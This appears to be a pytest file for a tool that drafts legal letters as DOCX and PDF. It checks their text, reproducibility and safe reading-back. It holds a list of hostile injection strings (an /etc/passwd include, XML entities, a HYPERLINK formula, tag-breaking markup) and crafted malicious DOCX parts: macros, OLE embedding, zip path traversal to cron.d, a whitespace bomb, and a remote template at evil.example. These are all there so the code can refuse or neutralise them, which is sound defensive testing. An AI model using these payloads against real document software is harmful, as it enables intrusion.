"""DOCX and PDF have the facts, the same bytes each time, and nothing of a hostile value comes alive in them."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from dataclasses import replace

import docx as python_docx
import pypdfium2  # type: ignore[import-untyped]
import pytest
from docx.oxml import OxmlElement
from docx.oxml.ns import qn

from hedgerow.cases.letters import docx_package
from hedgerow.cases.letters.document import Grid, LetterDocument, Paragraph
from hedgerow.cases.letters.docx_reader import taken_back
from hedgerow.cases.letters.docx_writer import docx
from hedgerow.cases.letters.drafting import draft
from hedgerow.cases.letters.files import LetterFiles
from hedgerow.cases.letters.kinds import Kind
from hedgerow.cases.letters.pdf import pdf, set_as_pdf
from hedgerow.cases.letters.people import Recipient
from hedgerow.cases.letters.problems import LetterError, UnsafeFileError
from hedgerow.cases.letters.text import clean
from hedgerow.cases.letters.words import gaps_in
from letters_case import FACTS, NOW, RECIPIENT, SENDER, TYPED

HOSTILE = [
    "#panic()",
    '#include "/etc/passwd"',
    "*bold* _it_ $x^2$ `raw` <label> @ref \\n //c /* c */",
    "</w:t></w:r><w:r><w:t>injected",
    "<!DOCTYPE x [<!ENTITY a 'b'>]>&a;",
    '=HYPERLINK("http://x.example","y")',
    "{{ 7*7 }} ${7*7} $site",
    "\u202eelif\u202c \u2066x\u2069",
    "a\x00b\x0bc\x1b[31m",
    "\ud800".encode("utf-16", "surrogatepass").decode("utf-16", "replace"),
    "漢字 عربى 🦔 Ω ж ł",
    "W" * 500,
]


def letter(kind: Kind = Kind.DELETION_DEMAND, code: str = "en") -> LetterDocument:
    return draft(kind, FACTS, RECIPIENT, code, SENDER, NOW, number="C-2026-0001-L2", particulars=TYPED[code])


def text_of(made: bytes) -> str:
    with pypdfium2.PdfDocument(made) as pages:
        text = "\n".join(page.get_textpage().get_text_bounded() for page in pages)
    return text.replace("\u200b", "").replace("\r\n", "\n")


@pytest.mark.parametrize("kind", list(Kind))
@pytest.mark.parametrize("code", ["en", "fr"])
def test_every_letter_is_a_docx_with_its_text_its_language_and_its_tables(kind: Kind, code: str) -> None:
    document = letter(kind, code)
    opened = python_docx.Document(io.BytesIO(docx(document)))
    text = [p.text for p in opened.paragraphs] + [c.text for t in opened.tables for r in t.rows for c in r.cells]
    for said in document.texts():
        assert not said or any(said in t for t in text), said
    assert opened.core_properties.language == code
    assert {e.get(qn("w:val")) for e in opened.styles.element.iter(qn("w:lang"))} == {code}
    assert len(opened.tables) == sum(isinstance(b, Grid) for b in document.blocks)
    assert any(p.style is not None and p.style.name == "Heading 2" for p in opened.paragraphs)


# ECMA-376, part 1, 17.3.1.26 and 17.7.5: what of a paragraph's properties we write, in the order of the schema.
ORDER = (
    "pStyle",
    "keepNext",
    "keepLines",
    "pageBreakBefore",
    "widowControl",
    "numPr",
    "pBdr",
    "tabs",
    "spacing",
    "ind",
    "contextualSpacing",
    "jc",
    "outlineLvl",
    "rPr",
)


def test_properties_of_paragraphs_stand_in_the_order_of_the_schema() -> None:
    opened = python_docx.Document(io.BytesIO(docx(letter())))
    for root in (opened.element, opened.styles.element):
        for properties in root.iter(qn("w:pPr")):
            names = [child.tag.rpartition("}")[2] for child in properties]
            assert set(names) <= set(ORDER)
            assert names == sorted(names, key=ORDER.index)


@pytest.mark.parametrize("kind", list(Kind))
@pytest.mark.parametrize("code", ["en", "fr"])
def test_a_docx_that_nobody_edited_comes_back_as_the_same_letter(kind: Kind, code: str) -> None:
    document = letter(kind, code)
    assert taken_back(docx(document), document) == (document, ())


@pytest.mark.parametrize("kind", list(Kind))
def test_every_letter_is_a_tagged_archive_pdf_with_its_facts(kind: Kind) -> None:
    made = pdf(letter(kind), approved=True)
    text = " ".join(text_of(made).split())
    assert "members.example" in text
    assert "C-2026-0001-L2" in text
    assert "Draft, not approved" not in text
    # ISO 19005-2 level A and ISO 14289-1 name themselves in the metadata; /StructTreeRoot is the structure.
    assert b"pdfaid:conformance>A<" in made
    assert b"pdfuaid:part>1<" in made
    with pypdfium2.PdfDocument(made) as pages:
        assert pages.get_metadata_dict()["Title"].startswith(letter(kind).subject[:20])


def test_the_same_letter_gives_the_same_bytes() -> None:
    for kind in Kind:
        assert docx(letter(kind)) == docx(letter(kind))
        assert pdf(letter(kind), approved=True) == pdf(letter(kind), approved=True)
    later = replace(letter(), subject="Another")
    assert docx(later) != docx(letter())


def test_a_draft_says_on_each_page_that_nobody_approved_it() -> None:
    with pypdfium2.PdfDocument(pdf(letter(), approved=False)) as pages:
        assert all("Draft, not approved" in page.get_textpage().get_text_bounded() for page in pages)


@pytest.mark.parametrize("value", HOSTILE)
def test_no_value_becomes_markup_in_a_docx_or_a_pdf(value: str) -> None:
    field = replace(FACTS.fields[0], name=value)
    case = replace(FACTS, site=value, fields=(field, *FACTS.fields[1:]))
    typed = replace(TYPED["en"], addressed_because=value, found_at=(value,))
    recipient = Recipient.of({"name": value, "address": value[:400]})
    document = draft(Kind.CEASE_AND_DESIST, case, recipient, "en", SENDER, NOW, particulars=typed)
    opened = python_docx.Document(io.BytesIO(docx(document)))
    assert any(document.subject == p.text for p in opened.paragraphs)
    made, _ = set_as_pdf(document, approved=True)
    plain_value = "".join(c for c in clean(value) if c.isascii() and c.isprintable() and not c.isspace())
    assert plain_value in "".join(text_of(made).split())
    with pypdfium2.PdfDocument(made) as pages:
        assert len(pages) <= 8


def test_what_the_fonts_cannot_show_is_a_code_point_in_the_pdf_and_itself_in_the_docx() -> None:
    document = draft(Kind.HOST_NOTICE, FACTS, Recipient(name="漢字 Ltd"), "en", SENDER, NOW)
    made, unshown = set_as_pdf(document, approved=True)
    assert set(unshown) == {"漢", "字"}
    assert "[U+6F22][U+5B57] Ltd" in text_of(made)
    assert "漢字 Ltd" in [p.text for p in python_docx.Document(io.BytesIO(docx(document))).paragraphs]


def edited(change: Callable[[python_docx.document.Document], None], document: LetterDocument) -> bytes:
    file = python_docx.Document(io.BytesIO(docx(document)))
    change(file)
    made = io.BytesIO()
    file.save(made)
    return made.getvalue()


def test_an_edited_docx_becomes_the_letter() -> None:
    document = draft(Kind.CEASE_AND_DESIST, FACTS, RECIPIENT, "en", SENDER, NOW)
    assert gaps_in("\n".join(document.texts()), ("en",))

    def fill_in(file: python_docx.document.Document) -> None:
        for paragraph in file.paragraphs:
            if "[to fill in: why" in paragraph.text:
                # As a word processor does it: the sentence is cut into runs.
                paragraph.text = "We write "
                paragraph.add_run("because of ").bold = True
                paragraph.add_run("this.")
            if "[to fill in: the legal" in paragraph.text:
                paragraph._p.getparent().remove(paragraph._p)
        file.tables[0].rows[1].cells[2].text = "1,479"

    after, warnings = taken_back(edited(fill_in, document), document)
    assert warnings == ()
    assert Paragraph("We write because of this.") in after.blocks
    assert any(isinstance(b, Grid) and b.rows[0][2] == "1,479" for b in after.blocks)
    assert gaps_in("\n".join(after.texts()), ("en",)) == ()
    assert (after.number, after.kind, after.answer_by) == (document.number, document.kind, document.answer_by)


def test_what_cannot_be_taken_over_is_said() -> None:
    def add(file: python_docx.document.Document) -> None:
        run = file.paragraphs[12].add_run()
        for tag in ("w:drawing", "w:commentReference"):
            run._r.append(OxmlElement(tag))

    _, warnings = taken_back(edited(add, letter()), letter())
    assert warnings == ("Not taken over from the file: 1 pictures.", "Not taken over from the file: 1 comments.")


def test_tracked_changes_are_not_taken() -> None:
    def track(file: python_docx.document.Document) -> None:
        file.paragraphs[12]._p.append(OxmlElement("w:ins"))

    with pytest.raises(LetterError, match="accept or reject them all"):
        taken_back(edited(track, letter()), letter())


def repacked(change: Callable[[dict[str, bytes]], None]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(docx(letter()))) as given:
        parts = {n: given.read(n) for n in given.namelist()}
    change(parts)
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as out:
        for name, content in parts.items():
            out.writestr(name, content)
    return made.getvalue()


def put(name: str, content: bytes) -> Callable[[dict[str, bytes]], None]:
    return lambda parts: parts.update({name: content})


def inside(name: str, old: bytes, new: bytes) -> Callable[[dict[str, bytes]], None]:
    return lambda parts: parts.update({name: parts[name].replace(old, new, 1)})


RELATION = (
    b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("change", "sentence"),
    [
        (put("word/vbaProject.bin", b"x"), "macros"),
        (inside("[Content_Types].xml", b"document.main+xml", b"document.macroEnabled.main+xml"), "macros"),
        (put("word/embeddings/oleObject1.xlsx", b"x"), "embedded"),
        (put("../../etc/cron.d/x", b"x"), "outside of it"),
        (put("word/bomb.xml", b"<a>" + b" " * 9_000_000 + b"</a>"), "more tightly"),
        (inside("word/document.xml", b"?>", b"?><!DOCTYPE x [<!ENTITY a 'b'>]>"), "entities"),
        (inside("word/_rels/document.xml.rels", b"</Relationships>", RELATION), "attachedTemplate"),
        (put("word/document.xml", b"<w:document"), "damaged"),
        (lambda parts: parts.pop("word/document.xml"), "no DOCX"),
    ],
)
def test_a_dangerous_file_is_refused_unread(change: Callable[[dict[str, bytes]], None], sentence: str) -> None:
    with pytest.raises(UnsafeFileError, match=sentence):
        taken_back(repacked(change), letter())


def test_declarations_in_another_encoding_are_refused() -> None:
    for coding in ("cp037", "utf-7", "utf-32"):
        content = f'<?xml version="1.0" encoding="{coding}"?><!DOCTYPE x [<!ENTITY a "b">]><x/>'.encode(coding)
        with pytest.raises(UnsafeFileError):
            docx_package.check(repacked(put("word/more.xml", content)))


def test_a_file_that_is_no_zip_or_too_large_is_refused() -> None:
    with pytest.raises(UnsafeFileError, match="no DOCX"):
        taken_back(b"%PDF-1.7", letter())
    with pytest.raises(UnsafeFileError, match="at most"):
        taken_back(b"x" * (docx_package.MOST_BYTES + 1), letter())


def test_kept_files_are_named_by_their_hash_and_noticed_when_changed(tmp_path: object) -> None:
    files = LetterFiles(tmp_path)  # type: ignore[arg-type]
    name = files.keep(b"a reply")
    assert files.read(name) == b"a reply"
    assert files.keep(b"a reply") == name
    path = next(p for p in files.folder.rglob("*") if p.is_file())
    assert path.stat().st_mode & 0o077 == 0
    path.write_bytes(b"another reply")
    with pytest.raises(LetterError, match="was changed"):
        files.read(name)
    for wrong in ("../../etc/passwd", "A" * 64, ""):
        with pytest.raises(LetterError):
            files.read(wrong)
    with pytest.raises(LetterError, match="between 1 and"):
        files.keep(b"")
